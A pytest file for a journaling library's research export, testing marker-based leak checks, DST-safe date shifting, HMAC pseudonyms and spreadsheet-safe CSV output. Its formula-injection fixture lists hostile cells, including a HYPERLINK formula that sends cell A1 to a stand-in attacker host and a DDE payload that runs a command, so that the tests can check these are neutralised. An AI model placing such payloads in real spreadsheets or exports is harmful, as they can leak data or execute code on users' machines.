"""Privacy by construction in the research export, and spreadsheet-safe CSV.

The research export lets out only what is on its allow-list: a unique marker is
planted in every string field of every record type (participant ids, record
ids, trigger references, free text, emotion names, a custom exercise id that
starts like a catalog family, a custom instrument's id) and every byte of every
file written from the export is searched for it."""

from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import calmkit
from calmkit import exports

KEY = bytes(range(32))
SAMPLE = Path(__file__).resolve().parents[2] / "examples" / "data" / "sample-journal.jsonl"
M = "mk7q"  # the marker's prefix: no output may contain it


def marked_journal() -> calmkit.Journal:
    """Every string field of every record type holds a unique marker."""
    inst = f"{M}-instrument-sam"
    if inst not in calmkit.instrument_ids():
        calmkit.register_instrument({"id": inst, "name": f"{M} name", "items": [f"{M} item"],
                                     "scale_min": 0, "scale_max": 3})
    p = f"{M}-participant-alex@example.org"
    t = "2026-03-02T21:14:00+01:00"
    lines = [
        {"type": "trigger", "participant": p, "id": f"{M}-trigger-id", "time": t, "category": "delayed_reply",
         "intensity": 8, "context": f"{M} context", "thoughts": [f"{M} thought"], "sensations": [f"{M} sensation"],
         "urge": f"{M} urge", "acted_on_urge": True, "acted_after_minutes": 12.5, "response": f"{M} response",
         "tags": [f"{M}-tag"]},
        {"type": "reading", "participant": p, "id": f"{M}-reading-id", "time": "2026-03-02T21:20:00+01:00",
         "intensity": 7, "trigger": f"{M}-trigger-id", "note": f"{M} note"},
        {"type": "exercise", "participant": p, "id": f"{M}-exercise-id", "time": "2026-03-02T21:30:00+01:00",
         "exercise": f"breathing.with-{M}-after-the-breakup", "end": "2026-03-02T21:36:00+01:00",
         "completed": True, "intensity_before": 7, "intensity_after": 4, "trigger": f"{M}-trigger-id",
         "responses": [f"{M} response"]},
        {"type": "exercise", "participant": p, "id": f"{M}-exercise-2", "time": "2026-03-02T21:40:00+01:00",
         "exercise": "breathing.box", "end": "2026-03-02T21:44:00+01:00", "completed": True},
        {"type": "thought_record", "participant": p, "id": f"{M}-thought-id", "time": "2026-03-02T22:05:00+01:00",
         "situation": f"{M} situation", "automatic_thought": f"{M} automatic", "belief_before": 85,
         "emotions": [{"name": f"{M} scared Sam leaves", "before": 80, "after": 40},
                      {"name": "Anxious", "before": 50}],
         "distortions": ["mind_reading"], "evidence_for": [f"{M} for"], "evidence_against": [f"{M} against"],
         "alternatives": [f"{M} alternative"], "friend_advice": f"{M} advice", "balanced_thought": f"{M} balanced",
         "belief_after": 35, "trigger": f"{M}-trigger-id"},
        {"type": "assessment", "participant": p, "id": f"{M}-assessment-id", "time": "2026-03-03T09:00:00+01:00",
         "instrument": "gad-7", "answers": [1, 2, 0, 1, 2, 0, 1], "note": f"{M} assessment note"},
        {"type": "assessment", "participant": p, "id": f"{M}-assessment-2", "time": "2026-03-04T09:00:00+01:00",
         "instrument": inst, "answers": [2], "note": f"{M} note 2"},
    ]
    return calmkit.parse_journal("".join(json.dumps(x) + "\n" for x in lines))


def test_every_string_field_holds_the_marker():
    # The fixture itself: each record type, each string field (a test of the test).
    text = calmkit.to_jsonl(marked_journal())
    for rec in map(json.loads, text.splitlines()[1:]):
        for name, value in rec.items():
            if isinstance(value, str) and name not in ("type", "time", "end", "category") and \
                    value not in ("gad-7", "breathing.box"):
                assert M in value, (rec["type"], name)
    assert text.count(M) >= 30


@pytest.mark.parametrize("shift", [False, True])
def test_no_marker_leaves_the_research_export(tmp_path: Path, shift: bool):
    j = marked_journal()
    out = tmp_path / "out"
    out.mkdir()
    calmkit.write_research_export(j, out / "study.jsonl", KEY, shift_dates=shift)
    r = calmkit.research_export(j, KEY, shift_dates=shift)
    calmkit.export_csv(r, out / "csv")
    calmkit.write_parquet(r, out / "parquet")
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) >= 10
    for p in files:
        assert M.encode() not in p.read_bytes(), p
    # Parquet pages may be compressed: look at the values read back too.
    back = calmkit.read_parquet(out / "parquet")
    assert M not in calmkit.to_jsonl(back)
    # What does leave: numbers, vocabularies, catalog ids, pseudonyms.
    assert [e.exercise for e in r.exercises] == ["custom", "breathing.box"]
    assert [e.name for e in r.thought_records[0].emotions] == ["other", "anxious"]
    assert [a.instrument for a in r.assessments] == ["gad-7"]  # the custom instrument's record is dropped
    assert r.triggers[0].intensity == 8 and r.triggers[0].acted_after_minutes == 12.5
    assert r.readings[0].trigger == r.triggers[0].id == r.exercises[0].trigger == r.thought_records[0].trigger


def test_a_catalog_prefix_is_not_enough():
    j = calmkit.parse_journal(
        '{"type":"exercise","id":"e1","time":"2026-03-02T21:30:00+01:00","end":"2026-03-02T21:35:00+01:00",'
        '"exercise":"grounding.5-4-3-2-1"}\n'
        '{"type":"exercise","id":"e2","time":"2026-03-02T21:31:00+01:00","end":"2026-03-02T21:35:00+01:00",'
        '"exercise":"grounding.call-jo"}\n')
    assert calmkit.find_exercise("grounding.5-4-3-2-1") is not None
    assert [e.exercise for e in calmkit.research_export(j, KEY).exercises] == ["grounding.5-4-3-2-1", "custom"]


def test_a_shift_past_the_year_9999_is_a_clear_error():
    # Find a participant whose shift is forwards under KEY.
    name = next(f"p{k}" for k in range(100) if exports.shift_weeks(KEY, f"p{k}") > 0)
    j = calmkit.parse_journal(json.dumps({"type": "reading", "participant": name, "id": "r1",
                                          "time": "9999-12-30T12:00:00Z", "intensity": 3}) + "\n")
    weeks = exports.shift_weeks(KEY, name)
    # The year it lands in, by NumPy's calendar (it counts days past the year 9999): the model's year rule.
    year = int((np.datetime64("9999-12-30") + np.timedelta64(7 * weeks, "D")).astype("datetime64[Y]").astype(int))
    with pytest.raises(ValueError) as err:
        calmkit.research_export(j, KEY, shift_dates=True)
    assert (f"9999-12-30T12:00:00Z moved by the participant's date shift ({weeks:+d} weeks): "
            f"year must be 1400..9999, got {year + 1970};") in str(err.value)
    back = next(f"p{k}" for k in range(100) if exports.shift_weeks(KEY, f"p{k}") < 0)
    j = calmkit.parse_journal(json.dumps({"type": "reading", "participant": back, "id": "r1",
                                          "time": "1400-01-02T12:00:00Z", "intensity": 3}) + "\n")
    with pytest.raises(ValueError) as err:
        calmkit.research_export(j, KEY, shift_dates=True)
    # The same words as the reader's for a year it refuses (another entry point of the one rule).
    with pytest.raises(calmkit.JournalFormatError) as reader:
        calmkit.parse_journal(json.dumps({"type": "reading", "time": "1399-12-31T12:00:00Z", "intensity": 3}))
    assert reader.value.reason.endswith("year must be 1400..9999")  # the rule; the export adds the year
    weeks = exports.shift_weeks(KEY, back)
    year = int((np.datetime64("1400-01-02") + np.timedelta64(7 * weeks, "D")).astype("datetime64[Y]").astype(int))
    assert f"({weeks:+d} weeks): year must be 1400..9999, got {year + 1970};" in str(err.value)


# --- CSV formula injection -------------------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tleading tab",
           "\rleading CR", "'already quoted", "''two", "'", "=", "-", "plain", " =space first", "a=b",
           "=cmd|' /C calc'!A0"]


def hostile_journal() -> calmkit.Journal:
    j = calmkit.Journal()
    for k, text in enumerate(HOSTILE):
        j.add(calmkit.Trigger(id=f"{text}#{k}", participant=text, time=f"2026-03-02T21:{k:02d}:00+01:00",
                              category="conflict", intensity=3, context=text, urge=text, response=text,
                              thoughts=[text], tags=[text]))
        j.add(calmkit.Reading(id=f"r{k}", participant=text, time=f"2026-03-02T22:{k:02d}:00+01:00", intensity=2,
                              note=text, trigger=f"{text}#{k}"))
    return j


def test_hostile_cells_are_neutralised_and_round_trip(tmp_path: Path):
    j = hostile_journal()
    calmkit.export_csv(j, tmp_path)
    assert calmkit.import_csv(tmp_path) == j
    for name in ("triggers.csv", "readings.csv"):
        with open(tmp_path / name, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        for row in rows[1:]:
            for cell in row:
                # No cell a spreadsheet would run: the first character is never a formula start.
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    text = (tmp_path / "readings.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text
    assert "'''two" in text
    assert ",'@SUM(A1:A9)\n" in text


def test_the_rule_is_applied_to_text_cells_only(tmp_path: Path):
    j = calmkit.Journal([calmkit.Trigger(id="t1", time="2026-03-02T21:14:00-05:00", category="conflict",
                                         intensity=0, acted_on_urge=True, acted_after_minutes=0.5)])
    calmkit.export_csv(j, tmp_path)
    row = (tmp_path / "triggers.csv").read_text(encoding="utf-8").splitlines()[1]
    assert row == ",t1,2026-03-02T21:14:00-05:00,conflict,0,,,,,true,0.5,,"


# B2 (breaker2): a shifted export kept each record's UTC offset, so the shifted
# date of a daylight-saving change (US Eastern -05:00 -> -04:00 on a Sunday at
# 07:00 UTC, EU +01:00 -> +02:00 ...) narrowed the 104 possible shifts to ~2.
def _dst_journal():
    from zoneinfo import ZoneInfo
    j = calmkit.Journal()
    # Each person journals twice a day across their zone's DST changes (both ways).
    for person, zone, first in (("ny", "America/New_York", datetime(2026, 2, 20, 8)),
                                ("berlin", "Europe/Berlin", datetime(2026, 3, 15, 8)),
                                ("sydney", "Australia/Sydney", datetime(2026, 3, 20, 8)),
                                ("fall", "Europe/Berlin", datetime(2026, 10, 10, 23, 30))):
        for d in range(40):
            for h in (0, 12):
                local = (first + timedelta(days=d, hours=h)).replace(tzinfo=ZoneInfo(zone))
                tid = f"t{d}-{h}"
                j.add(calmkit.Trigger(id=tid, participant=person, time=local.isoformat(), category="conflict",
                                      intensity=4 + (d + h) % 6))
                j.add(calmkit.Reading(id=f"r{d}-{h}", participant=person, trigger=tid,
                                      time=(local + timedelta(minutes=10 + 7 * (d % 9))).isoformat(),
                                      intensity=(d * 3 + h) % 5))
    return j


def _offsets(journal):
    frames = [getattr(journal, kind).to_pandas()[["participant", "time", "offset_minutes"]]
              for kind in ("triggers", "readings", "exercises", "thought_records", "assessments")]
    return pd.concat([f for f in frames if len(f)]).sort_values(["participant", "time"])


@pytest.mark.parametrize("source", ["sample", "dst"])
def test_a_shifted_export_shows_no_dst_change(source):
    j = calmkit.read_journal(SAMPLE) if source == "sample" else _dst_journal()
    before = _offsets(j)
    assert (before.groupby("participant", observed=True)["offset_minutes"].nunique() > 1).any()  # the fixture has DST
    r = calmkit.research_export(j, KEY, shift_dates=True)
    after = _offsets(r)
    assert (after.groupby("participant", observed=True)["offset_minutes"].nunique() == 1).all()
    for p, g in before.groupby("participant", observed=True):
        mine = after[after["participant"] == exports.pseudonym(KEY, p)]
        # The one offset is the participant's most common; every instant moved by exactly the shift.
        const = g["offset_minutes"].value_counts().idxmax()
        assert (mine["offset_minutes"] == const).all()
        assert len(g) == len(mine)
        moved = mine["time"].to_numpy() - g["time"].to_numpy()
        assert (moved == np.timedelta64(7 * exports.shift_weeks(KEY, p), "D")).all()
        # Local clock times: those recorded with the kept offset are unchanged, the others
        # moved by the difference (the export's local time is instant + its offset).
        def wall(t):
            return (t["time"] + pd.to_timedelta(t["offset_minutes"].astype(int), unit="min")).reset_index(drop=True)
        step = wall(mine) - wall(g) - pd.Timedelta(weeks=exports.shift_weeks(KEY, p))
        expected = pd.to_timedelta(const - g["offset_minutes"].astype(int), unit="min").reset_index(drop=True)
        pd.testing.assert_series_equal(step, expected, check_names=False)
        assert (expected != pd.Timedelta(0)).any() == (g["offset_minutes"].nunique() > 1)
    # Without a shift the offsets are the recorded ones.
    plain = _offsets(calmkit.research_export(j, KEY))
    assert sorted(plain["offset_minutes"]) == sorted(before["offset_minutes"])


def test_durations_survive_a_shifted_export_with_dst():
    # Metrics that do not depend on the calendar give the same numbers on the export.
    for j in (_dst_journal(), calmkit.read_journal(SAMPLE)):
        r = calmkit.research_export(j, KEY, shift_dates=True)
        for threshold in (2, 3):
            a = calmkit.time_to_calm_summary(j, by=None, threshold=threshold)
            b = calmkit.time_to_calm_summary(r, by=None, threshold=threshold)
            pd.testing.assert_frame_equal(a.reset_index(drop=True), b.reset_index(drop=True))
        e0 = calmkit.time_to_calm(j).sort_values(["onset"])
        e1 = calmkit.time_to_calm(r)
        assert sorted(e0["minutes"]) == sorted(e1["minutes"]) and len(e0) > 0
        # Affect dynamics over successive pairs within 36 h (no local-date rule): same numbers.
        d0 = calmkit.affect_dynamics(j, max_gap_hours=36).drop(columns="participant")
        d1 = calmkit.affect_dynamics(r, max_gap_hours=36).drop(columns="participant")
        key = list(d0.columns)
        pd.testing.assert_frame_equal(d0.sort_values(key).reset_index(drop=True),
                                      d1.sort_values(key).reset_index(drop=True))


@pytest.mark.parametrize("flag", ["no", "False", 0, 1, None])
def test_shift_dates_must_be_true_or_false(flag):
    # "no" is a true value: read by its truth value it would shift the dates the caller turned off.
    j = calmkit.parse_journal('{"type":"reading","id":"r1","time":"2026-03-02T21:30:00+01:00","intensity":3}\n')
    with pytest.raises(TypeError, match=r"shift_dates= must be True or False"):
        calmkit.research_export(j, KEY, shift_dates=flag)
    assert calmkit.research_export(j, KEY, shift_dates=np.bool_(False)).readings[0].time == j.readings[0].time


def _docs_mac(key: bytes, *parts: bytes) -> str:
    """docs/privacy.md's formula, computed with hmac alone (not calmkit)."""
    import hashlib
    import hmac

    return hmac.new(key, b"\x00".join(parts), hashlib.sha256).hexdigest()[:16]


def test_pseudonyms_follow_the_documented_hmac_and_a_nul_cannot_shift_a_part():
    """The export's pseudonyms are the HMAC docs/privacy.md gives, and a NUL
    inside a participant or an id (the format allows one) cannot move bytes
    from one part to the next: ("a" NUL "b", "c") and ("a", "b" NUL "c") got
    one record pseudonym while the parts were only joined by NUL."""
    records = [
        {"type": "trigger", "participant": "a\x00b", "id": "c", "time": "2026-03-02T21:14:00+01:00",
         "category": "delayed_reply", "intensity": 6},
        {"type": "trigger", "participant": "a", "id": "b\x00c", "time": "2026-03-02T21:15:00+01:00",
         "category": "delayed_reply", "intensity": 7},
        {"type": "trigger", "participant": "p1", "id": "t1", "time": "2026-03-02T21:16:00+01:00",
         "category": "delayed_reply", "intensity": 5},
    ]
    journal = calmkit.parse_journal("\n".join(json.dumps(r) for r in records) + "\n")
    out = {t.intensity: (t.participant, t.id) for t in calmkit.research_export(journal, KEY).triggers}
    assert out[6][1] != out[7][1], out
    assert out[5] == ("r" + _docs_mac(KEY, b"participant", b"p1"), "t" + _docs_mac(KEY, b"record", b"trigger", b"p1", b"t1"))
